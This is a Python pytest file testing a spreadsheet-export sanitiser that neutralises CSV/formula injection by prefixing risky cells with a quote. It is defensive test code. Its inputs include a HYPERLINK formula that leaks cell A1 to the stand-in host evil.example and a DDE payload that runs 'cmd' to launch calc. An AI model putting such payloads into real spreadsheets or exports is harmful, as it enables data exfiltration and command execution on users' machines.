"""Free text in an export never becomes a live formula; numbers stay numbers (OWASP CSV
injection)."""

from __future__ import annotations

from datetime import date

import pytest

from common.spreadsheets import safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
    ],
)
def test_text_that_would_start_a_formula_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Hội nghị xúc tiến đầu tư", "", "1+1", "a=b", "-5", "+1.5", "-2,5", "-1e3", "-12%"]
)
def test_ordinary_text_and_numbers_written_as_text_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


def test_values_that_are_not_text_pass_unchanged() -> None:
    assert safe_row([-3, 0.25, None, date(2026, 1, 1), True]) == [
        -3,
        0.25,
        None,
        date(2026, 1, 1),
        True,
    ]
